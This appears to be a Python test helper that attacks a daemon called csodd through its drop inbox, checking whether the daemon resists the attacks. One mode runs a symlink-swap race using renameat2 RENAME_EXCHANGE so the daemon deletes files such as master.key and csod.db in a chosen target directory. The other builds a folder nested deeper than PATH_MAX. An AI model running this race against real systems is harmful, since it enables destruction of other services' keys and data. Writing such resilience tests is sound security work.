#!/usr/bin/python3
"""A developer attacking csodd through their own drops (tests 56).

  drop_racer.py race INBOX NAME TARGET SECONDS
      Builds INBOX/NAME.tmp/ holding sub/ (a folder of files named like
      csodd's state files, among 3,000 others) and lnk (a symbolic link to
      TARGET), keeps a descriptor on the folder, renames it
      to INBOX/NAME (so csodd takes it at once), then swaps sub and lnk
      through the kept descriptor (renameat2 RENAME_EXCHANGE) for SECONDS:
      whenever csodd looks at sub by path it may find the link. Prints
      "locked-out" if a swap was refused with EACCES/EPERM (the daemon took
      the folder over), else "raced N".

  drop_racer.py deep INBOX NAME LEVELS
      Builds INBOX/NAME.tmp/ with a chain of LEVELS nested folders (deeper
      than PATH_MAX allows by path; built through descriptors), then renames
      it to INBOX/NAME.
"""
import ctypes
import errno
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2


def exchange(dir_fd, a, b):
    if libc.renameat2(dir_fd, a.encode(), dir_fd, b.encode(), RENAME_EXCHANGE) != 0:
        return ctypes.get_errno()
    return 0


def race(inbox, name, target, seconds):
    tmp = os.path.join(inbox, name + ".tmp")
    os.mkdir(tmp)
    os.mkdir(os.path.join(tmp, "sub"))
    # The names of the files to delete through the link, among enough
    # others that a removal by path spends milliseconds in sub/.
    names = ["csod.db", "csod.db-wal", "csod.db-shm", "master.key", "ca.pem"]
    names += ["f%04d" % i for i in range(3000)]
    for n in names:
        with open(os.path.join(tmp, "sub", n), "w") as f:
            f.write("x")
    os.symlink(target, os.path.join(tmp, "lnk"))
    fd = os.open(tmp, os.O_RDONLY | os.O_DIRECTORY)
    os.rename(tmp, os.path.join(inbox, name))
    swaps, denied = 0, False
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        e = exchange(fd, "sub", "lnk")
        if e == 0:
            swaps += 1
        elif e in (errno.EACCES, errno.EPERM):
            denied = True
            break
    print("locked-out" if denied else "raced %d" % swaps)


def deep(inbox, name, levels):
    tmp = os.path.join(inbox, name + ".tmp")
    os.mkdir(tmp)
    fd = os.open(tmp, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(levels):
        os.mkdir("d", dir_fd=fd)
        nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nfd
    with open(os.open("leaf", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
        f.write("leaf")
    os.close(fd)
    os.rename(tmp, os.path.join(inbox, name))


if __name__ == "__main__":
    if sys.argv[1] == "race":
        race(sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]))
    elif sys.argv[1] == "deep":
        deep(sys.argv[2], sys.argv[3], int(sys.argv[4]))
    else:
        sys.exit("usage: see the docstring")
